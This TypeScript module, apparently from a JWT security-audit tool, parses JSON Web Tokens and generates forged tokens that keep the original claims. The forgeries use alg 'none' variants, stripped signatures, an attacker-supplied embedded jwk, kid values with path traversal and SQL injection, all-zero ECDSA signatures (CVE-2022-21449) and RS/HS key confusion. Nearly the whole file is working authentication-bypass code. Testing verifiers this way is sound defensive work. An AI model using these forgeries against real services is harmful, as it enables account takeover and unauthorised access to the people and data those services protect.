import { createHmac, createPublicKey, generateKeyPairSync, type JsonWebKey, sign } from 'node:crypto'

/** A JSON Web Token in its three parts. Nothing is verified. */
export interface Jwt {
  readonly header: Readonly<Record<string, unknown>>
  readonly payload: Readonly<Record<string, unknown>>
  readonly signature: string
  /** Header and payload as they were sent. */
  readonly signed: string
}

export function parseJwt(token: string): Jwt | null {
  const [head, body, signature, ...rest] = token.split('.')
  if (head === undefined || body === undefined || signature === undefined || rest.length > 0) return null
  const header = objectOf(head)
  const payload = objectOf(body)
  if (header === null || payload === null || typeof header.alg !== 'string') return null
  return { header, payload, signature, signed: `${head}.${body}` }
}

function objectOf(part: string): Record<string, unknown> | null {
  try {
    const value: unknown = JSON.parse(Buffer.from(part, 'base64url').toString())
    return typeof value === 'object' && value !== null && !Array.isArray(value)
      ? (value as Record<string, unknown>)
      : null
  } catch {
    return null
  }
}

export const encodePart = (value: unknown): string => Buffer.from(JSON.stringify(value)).toString('base64url')

export interface Attack {
  readonly id: string
  readonly says: string
  readonly token: string
}

const hmac = (key: string | Buffer, text: string) => createHmac('sha256', key).update(text).digest('base64url')

function resigned(jwt: Jwt, header: object, signature: (signed: string) => string): string {
  const signed = `${encodePart(header)}.${encodePart(jwt.payload)}`
  return `${signed}.${signature(signed)}`
}

/** Another payload under the old signature, which no verifier may accept. */
export function tampered(jwt: Jwt): string {
  const payload = encodePart({ ...jwt.payload, sojourn_audit: 1 })
  return `${jwt.signed.split('.')[0]}.${payload}.${jwt.signature}`
}

/** Tokens with the claims of the real one, under a signature that anyone can make. */
export function attacksOn(jwt: Jwt, publicKeys: readonly JsonWebKey[]): Attack[] {
  const none = ['none', 'None', 'NONE', 'nOnE'].map((alg) => ({
    id: `alg ${alg}`,
    says: `the algorithm "${alg}" and no signature`,
    token: resigned(jwt, { ...jwt.header, alg }, () => ''),
  }))
  return [
    ...none,
    { id: 'no signature', says: 'its own algorithm and no signature', token: `${jwt.signed}.` },
    ...ownKey(jwt),
    ...keyIds(jwt),
    ...blankSignatures(jwt),
    ...publicKeys.flatMap((key, i) => confused(jwt, key, i)),
  ]
}

/** The verifier must not use a key that comes with the token. */
function ownKey(jwt: Jwt): Attack[] {
  const { privateKey, publicKey } = generateKeyPairSync('rsa', { modulusLength: 2048 })
  const jwk = { ...publicKey.export({ format: 'jwk' }), use: 'sig', alg: 'RS256', kid: 'sojourn-audit' }
  const header = { ...jwt.header, alg: 'RS256', jwk, kid: 'sojourn-audit' }
  const token = resigned(jwt, header, (signed) => sign('sha256', Buffer.from(signed), privateKey).toString('base64url'))
  return [{ id: 'jwk', says: 'a key of its own in the header (jwk)', token }]
}

/** If a key id becomes part of a path or a query, it can choose the key. */
function keyIds(jwt: Jwt): Attack[] {
  const kids: [string, string, string][] = [
    ['kid: path', '../../../../../../../dev/null', ''],
    ['kid: query', "sojourn-audit' UNION SELECT 'sojourn", 'sojourn'],
  ]
  return kids.map(([id, kid, key]) => ({
    id,
    says: `the key id ${kid} and a signature by the key it leads to`,
    token: resigned(jwt, { ...jwt.header, alg: 'HS256', kid }, (signed) => hmac(key, signed)),
  }))
}

/** ECDSA signatures of nothing, which verifiers have taken (CVE-2022-21449). */
function blankSignatures(jwt: Jwt): Attack[] {
  if (!String(jwt.header.alg).startsWith('ES')) return []
  const zeros = Buffer.alloc({ ES256: 64, ES384: 96, ES512: 132 }[String(jwt.header.alg)] ?? 64).toString('base64url')
  return [
    { id: 'blank ECDSA signature', says: 'a signature of zeros', token: `${jwt.signed}.${zeros}` },
    { id: 'blank ECDSA signature, DER', says: 'a signature of zeros in DER', token: `${jwt.signed}.MAYCAQACAQA` },
  ]
}

/** The public key, used as the secret of an HMAC. */
function confused(jwt: Jwt, key: JsonWebKey, index: number): Attack[] {
  try {
    const publicKey = createPublicKey({ key, format: 'jwk' })
    const spki = publicKey.export({ type: 'spki', format: 'pem' }).toString()
    const pkcs1 = key.kty === 'RSA' ? [publicKey.export({ type: 'pkcs1', format: 'pem' }).toString()] : []
    return [spki, spki.trimEnd(), ...pkcs1].map((pem, i) => ({
      id: `key confusion ${index + 1}.${i + 1}`,
      says: 'HS256 with the public key as secret',
      token: resigned(jwt, { ...jwt.header, alg: 'HS256' }, (signed) => hmac(pem, signed)),
    }))
  } catch {
    return []
  }
}
